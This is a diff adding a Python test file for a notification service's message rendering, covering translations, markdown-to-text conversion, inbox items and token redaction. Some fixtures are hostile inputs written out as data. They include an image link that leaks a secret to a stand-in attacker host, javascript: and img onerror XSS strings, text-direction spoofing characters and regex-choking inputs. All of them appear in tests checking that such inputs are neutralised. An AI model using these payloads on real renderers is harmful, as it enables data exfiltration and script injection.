@@ -1,0 +1,317 @@
+"""What messages say, in three languages, as text that is nothing but text."""
+
+from __future__ import annotations
+
+import string
+import subprocess
+import sys
+from dataclasses import replace
+from datetime import UTC, datetime
+from time import process_time
+
+import pytest
+
+from chimes.i18n import in_language, say
+from chimes.model.notification import Artifact
+from chimes.model.recipient import Channel, Occasion
+from chimes.model.run import Reason, RunStatus
+from chimes.model.target import HttpTarget, TaskTarget
+from chimes.notifications import text as plain_text
+from chimes.notifications.inbox import inbox_item, undelivered
+from chimes.notifications.message import (
+    CUT,
+    LONGEST_OUTPUT,
+    headline,
+    language_of,
+    message_of,
+    reason,
+)
+from chimes.notifications.text import plain
+from tests.builders import a_run
+from tests.notifications.letters import (
+    a_delivery_of,
+    a_letter,
+    a_message,
+    a_recipient,
+    an_ended_run,
+)
+
+NINE = datetime(2026, 2, 10, 2, 0, tzinfo=UTC)
+
+
+@pytest.mark.parametrize("language", ["th", "zh"])
+def test_every_end_and_every_reason_has_words_of_its_own(language: str) -> None:
+    ends = [status for status in RunStatus if status.terminal]
+    told = {in_language(headline("x", each, recovered=False), language) for each in ends}
+    told |= {
+        in_language(headline("x", None, recovered=False), language),
+        in_language(headline("x", None, recovered=True), language),
+    }
+    assert len(told) == len(ends) + 2
+    codes = [code for name, code in vars(Reason).items() if name.isupper()]
+    words = {in_language(reason(code), language) for code in codes}
+    assert len(words) == len(codes)
+    assert not any(char in string.ascii_letters for text in (*told, *words) for char in text[2:])
+
+
+@pytest.mark.parametrize(
+    ("tag", "language"), [("zh-Hans-CN", "zh"), ("th_TH", "th"), ("fr", "en"), ("", "en")]
+)
+def test_a_tag_is_read_for_its_language(tag: str, language: str) -> None:
+    assert language_of(tag) == language
+
+
+# R1.11, Softnix' form: the first line is the same in every language, so that it can be searched
+@pytest.mark.parametrize(
+    ("language", "headline", "planned"),
+    [
+        ("en", "Morning report: succeeded", "Planned for 2026-02-10 09:00 (Asia/Bangkok)"),
+        ("th", "Morning report: สำเร็จ", "กำหนดเวลา 2026-02-10 09:00 (Asia/Bangkok)"),
+        ("zh", "Morning report：成功", "计划时间 2026-02-10 09:00（Asia/Bangkok）"),
+    ],
+)
+def test_a_message_in_each_language(language: str, headline: str, planned: str) -> None:
+    run = an_ended_run("**Two** things:\n\n- one\n- two", slot=NINE, planned_at=NINE)
+    message = a_message(run, language=language)
+    assert message.text == (
+        f"Run {run.id}: succeeded\n{headline}\n{planned}\n\nTwo things:\n\n• one\n• two"
+    )
+    assert message.title == headline
+    assert message.markdown == f"{planned}\n\n**Two** things:\n\n- one\n- two"
+
+
+def test_a_failure_says_why() -> None:
+    run = an_ended_run(
+        status=RunStatus.FAILED,
+        result=None,
+        slot=None,
+        error="HTTP 500\r\nInternal",
+        reason=Reason.CRASH_LIMIT,
+    )
+    assert a_message(run).text.splitlines()[1:] == [
+        "Morning report: failed",
+        "Reason: the nodes that carried it out stopped again and again",
+        "Error: HTTP 500 Internal",
+    ]
+    assert "ข้อผิดพลาด: HTTP 500 Internal" in a_message(run, language="th").text
+    assert a_message(replace(run, reason="http_500")).text.splitlines()[2] == "Reason: http_500"
+
+
+def test_missed_slots_and_recoveries_are_told_as_such() -> None:
+    missed = an_ended_run(status=RunStatus.MISSED, missed_count=7, result=None)
+    assert "7 planned times were missed" in a_message(missed).text
+    assert a_message(an_ended_run(), occasion=Occasion.RECOVERY).title == (
+        "Morning report: works again"
+    )
+
+
+def test_why_a_model_stopped_is_told_unless_it_was_done() -> None:
+    cut = an_ended_run(result={"text": "half", "finish_reason": "length"})
+    assert "Stopped because: length" in a_message(cut).text
+    whole = an_ended_run(result={"text": "all", "finish_reason": "stop"})
+    assert "Stopped" not in a_message(whole).text
+
+
+def test_what_tasks_and_callbacks_answered_is_shown_as_it_is() -> None:
+    task = a_run(
+        target=TaskTarget(name="sum"), status=RunStatus.SUCCEEDED, result={"value": {"total": 3}}
+    )
+    assert a_message(task).text.endswith('{\n  "total": 3\n}')
+    assert a_message(task).markdown.endswith('```\n{\n  "total": 3\n}\n```')
+    call = a_run(
+        target=HttpTarget(url="http://127.0.0.1:1/"),
+        status=RunStatus.SUCCEEDED,
+        result={"status": 200, "body": "**done** ```x```"},
+    )
+    assert a_message(call).text.endswith("**done** ```x```")
+    assert a_message(call).markdown.endswith("````\n**done** ```x```\n````")
+    assert a_message(call).title == "Run: succeeded"
+
+
+def test_a_run_without_a_schedule_is_named_by_its_prompt() -> None:
+    run = replace(an_ended_run(), schedule_id=None, schedule_name="")
+    assert a_message(run).title == "say something: succeeded"
+
+
+def test_a_run_that_is_no_longer_on_record() -> None:
+    delivery = a_delivery_of(an_ended_run(), a_recipient())
+    message = message_of(delivery, None, language="en", zone="UTC")
+    assert message.text.splitlines() == [
+        f"Run {delivery.run_id}",
+        "Morning report: has ended",
+        "The run is no longer on record.",
+    ]
+
+
+# R1.11: up to three are files, the newest; the others are links
+def test_the_newest_three_artifacts_are_files() -> None:
+    made = [{"name": f"{n}.txt", "url": f"http://127.0.0.1:9/{n}"} for n in range(5)]
+    message = a_message(an_ended_run(artifacts=[*made, {"name": "no url"}, "nonsense"]))
+    assert [file.name for file in message.files] == ["2.txt", "3.txt", "4.txt"]
+    assert message.artifacts[0] == Artifact(name="0.txt", url="http://127.0.0.1:9/0")
+    assert message.text.endswith("Files:\n0.txt: http://127.0.0.1:9/0\n1.txt: http://127.0.0.1:9/1")
+
+
+@pytest.mark.parametrize("language", ["th", "zh"])
+def test_an_error_on_record_is_told_in_the_language_of_the_reader(language: str) -> None:
+    error = say("timed out after {seconds:g}s", seconds=30.0)
+    run = an_ended_run(status=RunStatus.TIMEOUT, error=str(error))
+    message = a_message(run, language=language)
+    told = in_language(error, language)
+    assert told != error
+    assert told in message.markdown
+    assert told in message.text
+
+
+def test_a_message_is_made_without_babel() -> None:
+    """It takes half a second to load, which nobody waits for who sends one."""
+    code = (
+        "import sys; from tests.notifications.letters import a_message, an_ended_run; "
+        "print(a_message(an_ended_run(error='timed out after 30s'), language='th').text); "
+        "assert 'babel' not in sys.modules"
+    )
+    done = subprocess.run(
+        [sys.executable, "-c", code], capture_output=True, text=True, timeout=60, check=False
+    )
+    assert done.returncode == 0, done.stderr
+    assert "Morning report: สำเร็จ" in done.stdout
+
+
+def test_a_very_long_output_is_cut_and_says_so() -> None:
+    message = a_message(an_ended_run("x " * LONGEST_OUTPUT))
+    assert len(message.text) < LONGEST_OUTPUT + 500
+    assert message.text.endswith(CUT)
+    assert message.markdown.endswith(CUT)
+
+
+def test_the_way_to_the_run() -> None:
+    run = an_ended_run()
+    text = a_message(run, public_url="https://chimes.example").text
+    assert text.endswith(f"Open: https://chimes.example/ui/runs/{run.id}")
+
+
+# S60: what would make a text look like another one is gone
+def test_names_and_outputs_cannot_disguise_themselves() -> None:
+    run = an_ended_run("safe\u202egnp.exe\x1b[31m\x00 <b>bold</b>")
+    run = replace(run, schedule_name="a\u202eb\n<b>_*[]()c</b>")
+    message = a_message(run)
+    assert message.title == "ab <b>_*[]()c</b>: succeeded"
+    assert message.text.endswith("safegnp.exe[31m <b>bold</b>")
+
+
+# S74
+@pytest.mark.parametrize(
+    ("markdown", "text"),
+    [
+        ("![pixel](https://evil.example/?q=secret)", "pixel"),
+        ("[press](tg://resolve?domain=evil)", "press"),
+        ("[press](javascript:alert(1))", "[press](javascript:alert(1))"),
+        ("[press](https://example.com/a)", "press (https://example.com/a)"),
+        ("<https://example.com/a>", "https://example.com/a"),
+        ("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"),
+        ("# One\n\n1. a\n2. **b**\n\n> said", "One\n\n1. a\n2. b\n\n> said"),
+        ("| a | b |\n|---|---|\n| 1 | 2 |", "a | b\n1 | 2"),
+        ("- a\n  - b", "• a\n  • b"),
+        ("~~old~~ `code` *new*\n***\nend", "old code new\n\n———\n\nend"),
+        ("```sh\nls *\n```", "ls *"),
+    ],
+)
+def test_markdown_becomes_text(markdown: str, text: str) -> None:
+    assert plain(markdown) == text
+
+
+def test_nesting_without_end_is_no_trouble() -> None:
+    assert "x" in plain(">" * 5000 + "x")
+    assert plain("- " * 3000 + "x")
+
+
+# I8: one item for each delivery
+def test_an_item_of_the_inbox_is_made_once() -> None:
+    letter = a_letter(recipient=a_recipient(Channel.INBOX))
+    item = inbox_item(letter)
+    assert inbox_item(letter) == item
+    assert item.title == "Morning report: succeeded"
+    assert (item.status, item.owner) == ("succeeded", letter.owner)
+    notice = undelivered(letter, "Forbidden")
+    assert notice.id != item.id
+
+
+def test_a_notice_of_what_was_not_delivered_hides_secrets() -> None:
+    recipient = a_recipient(Channel.WEBHOOK, to="https://example.com/h?token=abcdefgh")
+    notice = undelivered(a_letter(recipient=recipient), "HTTP 404")
+    assert notice.title == "Not delivered by webhook: Morning report: succeeded"
+    assert "https://example.com/h?token=***: HTTP 404" in notice.text
+    assert notice.text.endswith("all is well")
+
+
+# F67: an answer is hostile data; these took from one to twelve seconds each
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "[" * 60_000,
+        "![" * 30_000,
+        "![" * 1400,
+        "[ a b c d " * 2900,
+        ">" * 90 + "a\n" * 2000,
+        ">" * 10 + "a\n" * 2900,
+        "|a|b|\n|-|-|\n" + "|a|b|\n" * 9000,
+        "  - a\n" * 1400,
+        "*a " * 20_000,
+    ],
+    ids=lambda text: f"{text[:4]!r} x {len(text)}",
+)
+def test_no_text_costs_seconds(hostile: str) -> None:
+    shown = plain(hostile)
+    assert "a" in shown or hostile == shown
+
+    def cost() -> float:
+        plain.cache_clear()
+        began = process_time()
+        plain(hostile)
+        return process_time() - began
+
+    # On a machine whose cores are shared even computing takes longer now and then.
+    assert any(cost() < 1 for _ in range(3))
+
+
+def test_what_is_nested_too_deep_is_shown_as_it_is() -> None:
+    deep = ">" * 60 + " do not miss this"
+    assert plain(deep) == deep
+
+
+# The inbox takes Markdown; text is made for those who send it, and once for all of them
+def test_text_is_made_once_and_not_for_the_inbox(monkeypatch: pytest.MonkeyPatch) -> None:
+    parsed: list[str] = []
+
+    def made(text: str) -> str:
+        parsed.append(text)
+        return "made"
+
+    monkeypatch.setattr(plain_text, "_parsed", made)
+    plain.cache_clear()
+    run = an_ended_run("only *once*")
+    inbox_item(a_letter(run, a_recipient(Channel.INBOX)))
+    undelivered(a_letter(run), "no")
+    assert parsed == []
+    for channel in (Channel.TELEGRAM, Channel.EMAIL, Channel.TELEGRAM):
+        assert a_letter(run, a_recipient(channel)).message.text.endswith("made")
+    assert parsed == ["only *once*"]
+    plain.cache_clear()
+
+
+# C10: a chat and Softnix' API say `completed`; so does what they are told
+@pytest.mark.parametrize(
+    ("status", "said"),
+    [
+        (RunStatus.SUCCEEDED, "completed"),
+        (RunStatus.TIMEOUT, "failed"),
+        (RunStatus.MISSED, "failed"),
+        (RunStatus.CANCELED, "canceled"),
+    ],
+)
+def test_a_run_of_softnix_ends_in_its_words(status: RunStatus, said: str) -> None:
+    run = an_ended_run(status=status)
+    seed = a_message(replace(run, namespace="softnix"))
+    assert seed.text.splitlines()[0] == f"Run {run.id}: {said}"
+    assert a_message(run).text.splitlines()[0] == f"Run {run.id}: {status.value}"
+    assert seed.status == status.value
